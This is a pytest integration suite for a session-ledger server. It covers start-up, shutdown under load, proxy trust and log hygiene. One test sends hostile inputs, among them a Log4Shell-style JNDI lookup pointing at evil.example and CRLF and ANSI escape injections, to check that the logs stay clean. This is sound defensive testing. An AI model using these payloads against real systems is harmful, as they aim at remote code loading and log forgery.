"""The process that a person starts: from an empty directory to a clean end (F-24, T-08, T-09)."""

import itertools
import json
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import httpx
import psutil
import pytest

ROOT = Path(__file__).parents[2]
KEY = "the-first-key-of-the-tests-with-every-scope"
ADMIN = {"Authorization": f"Bearer {KEY}"}
GRACE_S = 10


class Server:
    """A started server with the settings' defaults, in `directory`, on a port of its own."""

    program: tuple[str, ...] = ("-m", "scripts.server")

    def __init__(self, directory: Path, *arguments: str, **settings: str) -> None:
        self._log = directory / "server.log"
        environment = {"PATH": os.environ["PATH"], "PYTHONPATH": str(ROOT), "LEDGER_PORT": "0"}
        environment |= {"LEDGER_BOOTSTRAP_API_KEY": KEY, **settings}
        with self._log.open("wb") as log, (directory / "out.txt").open("wb") as out:
            command = [sys.executable, *self.program, *arguments]
            self.process = subprocess.Popen(command, cwd=directory, env=environment, stdout=out, stderr=log)

    def await_start(self) -> "Server":
        until(lambda: "Application startup complete" in self.log_text or self.process.poll() is not None)
        match = re.search(r"running on http://127\.0\.0\.1:([0-9]+)", self.log_text)
        assert match, self.log_text
        self.port = int(match[1])
        self.http = httpx.Client(base_url=f"http://127.0.0.1:{self.port}")
        return self

    @property
    def log_text(self) -> str:
        return self._log.read_text()

    @property
    def requests(self) -> list[dict[str, Any]]:
        """The access log so far."""
        lines = [json.loads(line) for line in self.log_text.splitlines()]
        return [line for line in lines if line["logger"] == "ledger.access"]

    def sign_in(self, **body: Any) -> str:
        answer = self.http.post("/api/sessions", headers=ADMIN, json={"user_id": "alice", **body})
        assert answer.status_code == 201, answer.text
        return answer.json()["token"]

    def is_active(self, token: str) -> bool:
        return self.http.get("/api/auth/session", headers=bearer(token)).status_code == 200

    def end(self, by: signal.Signals = signal.SIGINT) -> int:
        """The exit status after this signal; it has as long as requests at hand may take, and a little to say so."""
        self.process.send_signal(by)
        return self.process.wait(GRACE_S)

    def close(self) -> None:
        self.process.kill()
        self.process.wait()


Start = Callable[..., Server]


@pytest.fixture
def start(tmp_path: Path) -> Iterator[Start]:
    """Starts servers in one directory; none outlives the test."""
    with ExitStack() as stack:

        def start_one(*arguments: str, **settings: str) -> Server:
            server = Server(tmp_path, *arguments, **settings)
            stack.callback(server.close)
            return server.await_start()

        yield start_one


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def until(is_true: Callable[[], Any], *, seconds: float = 30) -> None:
    deadline = time.monotonic() + seconds
    while not is_true():
        assert time.monotonic() < deadline
        time.sleep(0.02)


def test_it_starts_with_nothing_and_answers(start: Start, tmp_path: Path):
    server = start()
    token = server.sign_in()
    assert server.is_active(token)
    assert server.http.get("/readyz").json()["status"] == "ready"
    assert {path.name for path in (tmp_path / "var").iterdir()} >= {"ledger.db", "keys.db", "master.key"}
    assert (tmp_path / "var" / "master.key").stat().st_mode & 0o077 == 0
    assert server.end() == 0


def test_a_start_after_a_kill_keeps_what_was_answered(start: Start):
    first = start()
    kept, ended = first.sign_in(), first.sign_in()
    assert first.http.post("/api/auth/signout", headers=bearer(ended)).status_code == 204
    first.close()
    second = start()
    assert [second.is_active(token) for token in (kept, ended)] == [True, False]


@pytest.mark.parametrize("by", [signal.SIGINT, signal.SIGTERM])
def test_a_signal_under_load_finishes_what_has_begun_and_loses_nothing(start: Start, by: signal.Signals):
    server = start()
    acknowledged: list[str] = []
    broken: list[str] = []

    def load() -> None:
        with httpx.Client(base_url=server.http.base_url) as http:
            while True:
                try:
                    answer = http.post("/api/sessions", headers=ADMIN, json={"user_id": f"user-{len(acknowledged)}"})
                    acknowledged.append(answer.json()["token"])
                except httpx.TransportError as error:
                    if "without sending complete" in str(error):
                        broken.append(str(error))
                    return

    threads = [threading.Thread(target=load) for _ in range(4)]
    for thread in threads:
        thread.start()
    half_sent = Request(server.port, b'{"user_id":"alice"}')
    until(lambda: len(acknowledged) > 50)
    server.process.send_signal(by)
    until(lambda: "Shutting down" in server.log_text)
    assert half_sent.finish().startswith(b"HTTP/1.1 201 Created\r\n")
    assert server.process.wait(GRACE_S) == 0
    for thread in threads:
        thread.join()
    assert broken == []
    assert "Traceback" not in server.log_text
    again = start()
    assert all(again.is_active(token) for token in acknowledged)


class Request:
    """A sign-in whose body is sent but for its last byte."""

    def __init__(self, port: int, body: bytes) -> None:
        head = f"POST /api/sessions HTTP/1.1\r\nHost: ledger\r\nAuthorization: Bearer {KEY}\r\n"
        head += f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
        self._last = body[-1:]
        self._socket = socket.create_connection(("127.0.0.1", port), timeout=GRACE_S)
        self._socket.sendall(head.encode() + body[:-1])

    def finish(self) -> bytes:
        """Send the last byte; the whole answer, up to the end of the connection."""
        self._socket.sendall(self._last)
        with self._socket, self._socket.makefile("rb") as file:
            return file.read()


def test_a_port_that_is_taken_is_said_and_nothing_is_left_running(start: Start, tmp_path: Path):
    first = start()
    second = Server(tmp_path, LEDGER_PORT=str(first.port))
    assert second.process.wait(30) != 0
    assert "Address already in use" in second.log_text
    assert not psutil.pid_exists(second.process.pid)


def test_a_setting_that_cannot_be_creates_nothing(tmp_path: Path):
    server = Server(tmp_path, LEDGER_IDLE_TIMEOUT="soon")
    assert server.process.wait(30) == 2
    assert server.log_text.startswith("LEDGER_IDLE_TIMEOUT is 'soon'; allowed: ")
    assert {path.name for path in tmp_path.iterdir()} == {"server.log", "out.txt"}


CHAINS = {
    (): "127.0.0.0/24",
    ("198.51.100.7",): "198.51.100.0/24",
    ("203.0.113.66, 198.51.100.7",): "198.51.100.0/24",
    ("203.0.113.66, 198.51.100.7, 10.1.2.3",): "198.51.100.0/24",
    ("10.9.9.9, 198.51.100.7, 10.1.2.3, 10.1.2.4",): "198.51.100.0/24",
    ("203.0.113.66", "198.51.100.7"): "198.51.100.0/24",
    ("127.0.0.1, 2001:db8:1:2::7",): "2001:db8:1::/48",
    ("203.0.113.66, not an address",): None,
}
"""What proxies add to, and whose network counts: that of the right-most hop that is none of them."""


def test_t_09_a_forwarded_address_is_believed_from_a_trusted_proxy_only(start: Start):
    forwarded = {"X-Forwarded-For": "203.0.113.66, 198.51.100.7", "X-Forwarded-Proto": "https", "Forwarded": "for=x"}
    direct = start()
    direct.http.get("/healthz", headers=forwarded)
    until(lambda: direct.requests)
    assert [line["client"] for line in direct.requests] == ["127.0.0.0/24"]
    behind_proxies = start(LEDGER_TRUSTED_PROXIES="127.0.0.0/8,10.0.0.0/8")
    for chain in CHAINS:
        behind_proxies.http.get("/healthz", headers=[("X-Forwarded-For", line) for line in chain])
    until(lambda: len(behind_proxies.requests) == len(CHAINS))
    assert [line["client"] for line in behind_proxies.requests] == [*CHAINS.values()]


def test_t_08_whatever_is_sent_each_line_of_the_log_is_one_json_object(start: Start):
    server = start()
    token = server.sign_in(user_agent="\r\n\x1b[31m\u2028${jndi:ldap://evil.example}" + "x" * 7000)
    hostile = {**bearer(token), "User-Agent": "\x1b[31m${jndi}", "X-Request-Id": "\x1b[2J"}
    server.http.get("/%0d%0a%1b[31m%E2%80%A8?token=" + token, headers=hostile)
    for raw in (b"GET / HTTP/9.9\r\n\r\n", b"\x16\x03\x01\x00\r\n\r\n", b"GET /\x1b[31m HTTP/1.1\r\nHost: x\r\n\r\n"):
        with socket.create_connection(("127.0.0.1", server.port)) as connection:
            connection.sendall(raw)
            connection.recv(1000)
    assert server.end() == 0
    lines = server.log_text.splitlines()
    assert all(line.isascii() and line.isprintable() and isinstance(json.loads(line), dict) for line in lines)
    assert "jndi" not in server.log_text
    assert token not in server.log_text


def test_nobody_is_answered_by_websocket(start: Start):
    """An upgrade is a plain request: it meets the deadline, is logged without its query, and holds up no shutdown."""
    server = start()
    asked = b"GET /api/users/alice@example.com/sessions?token=CANARY HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\n"
    upgrade = b"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    with socket.create_connection(("127.0.0.1", server.port)) as connection:
        connection.sendall(asked + upgrade)
        assert connection.recv(1000).startswith(b"HTTP/1.1 4")
        assert server.end(signal.SIGTERM) == 0
    assert "CANARY" not in server.log_text
    assert "alice" not in server.log_text


def test_the_demo_prints_credentials_that_work(start: Start, tmp_path: Path):
    server = start("--demo")
    printed = (tmp_path / "out.txt").read_text()
    alice, key = re.findall(r"export [A-Z]+='Authorization: (Bearer \S+)'", printed)
    sessions = server.http.get("/api/sessions", headers={"Authorization": alice}).json()["sessions"]
    assert sorted(session["device"] for session in sessions) == [
        "Chrome on macOS",
        "Firefox on Windows",
        "Safari on iPhone",
    ]
    assert server.http.get("/api/users/bob@example.com/sessions", headers={"Authorization": key}).status_code == 200


def test_it_ends_though_somebody_listens_and_his_answer_is_whole(start: Start):
    server = start()
    with server.http.stream("GET", "/api/audit/stream", headers=ADMIN) as listening:
        lines = listening.iter_lines()
        assert next(lines).startswith("retry: ")
        server.sign_in()
        [first] = [line for line in itertools.islice(lines, 5) if line.startswith("data: ")][:1]
        assert json.loads(first.removeprefix("data: "))["event_type"] == "UserEnrolled"
        assert server.end(signal.SIGTERM) == 0
        assert "SessionCreated" in "".join(lines)
